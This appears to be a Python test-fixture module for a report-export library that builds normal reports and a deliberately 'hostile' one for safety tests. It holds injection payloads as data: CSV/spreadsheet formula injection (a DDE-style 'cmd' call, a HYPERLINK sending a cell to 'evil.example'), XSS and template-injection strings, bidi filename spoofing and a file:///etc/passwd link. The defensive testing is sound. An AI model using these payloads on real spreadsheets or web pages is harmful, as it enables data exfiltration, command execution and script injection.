"""Reports for the tests, and what must do no harm wherever it stands."""

from __future__ import annotations

from dataclasses import replace

from iuc_graph.reports import Column, Kind, Named, Report, Source, Table, Version

FORMULAS = (
    "=1+1",
    "+1+cmd|'/C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u200e=1+1",
    "＝1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"more")',
)
MARKUP = (
    "<script>alert(1)</script>",
    "</td></tr></table><img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "&lt;b&gt; &amp; <!-- ]]>",
    "{{ 7 * 7 }}{% for x in y %}",
    "{=1+1}",
)
MARKS = ("nul\x00 bell\x07 escape\x1b", "half \ud800 pair", "\ufffe\uffff", "_x0041_", "\x85\u2028")
TURNED = ("\u202egnp.exe", "\u2066isolated", "שלום", "\u200fmark")
LINKS = (
    "http://evil.example/",
    "mailto:a@b.example",
    "file:///etc/passwd",
    "javascript:alert(1)",
    "internal:A1",
)
LONG = "很" * 40_000
HARMFUL = (*FORMULAS, *MARKUP, *MARKS, *TURNED, *LINKS, LONG)

VERSION = Version("000007", "0f" * 32, "2020-03-04T05:06:07+00:00", ("v1.0",))
COLUMNS = (
    Column("city", "City"),
    Column("things", "Things", Kind.NUMBER),
    Column("since", "Since", Kind.DATE),
    Column("passage", "Passage", Kind.LINK),
)
SMALL = Report(
    "Cities that share logistics",
    "Which cities share logistics?",
    VERSION,
    (
        Table(
            "Cities",
            COLUMNS,
            (
                ("Mannheim", 3, "2019-05-06", "https://w3id.org/iuc-graph/id/passage/a/b"),
                ("重庆", -2, "2019", None),
            ),
        ),
    ),
    parameters=(Named("Theme", "logistics"),),
    notes=("Out of 107 cooperations, of which 12 state a theme.",),
    sources=(Source("https://w3id.org/iuc-graph/id/document/a", "Action plan of Chongqing"),),
)


def hostile(language: str = "en") -> Report:
    """A report in which everything that can be a text is harmful somewhere."""
    columns = tuple(Column(text[:40], text, kind) for text, kind in zip(HARMFUL[:4], Kind, strict=True))
    rows = tuple((text, 1, text, text) for text in HARMFUL)
    other = Table("[=1+1]:*?/\\'" + LONG, columns, rows)
    return Report(
        " ".join(MARKUP + TURNED),
        " ".join(HARMFUL),
        VERSION,
        (Table("=cmd", columns, rows), other, replace(other), Table("History", columns, ())),
        parameters=tuple(Named(text, text) for text in HARMFUL),
        notes=HARMFUL,
        sources=tuple(Source(text, text, text) for text in HARMFUL),
        language=language,
    )


def many(rows: int) -> Report:
    """A report with so many rows of ordinary length."""
    row = (
        "Metropolitan City of Bologna",
        12,
        "2019-05",
        "https://w3id.org/iuc-graph/id/passage/ucap-chongqing/theme",
    )
    return replace(SMALL, tables=(Table("Cities", COLUMNS, (row,) * rows),))
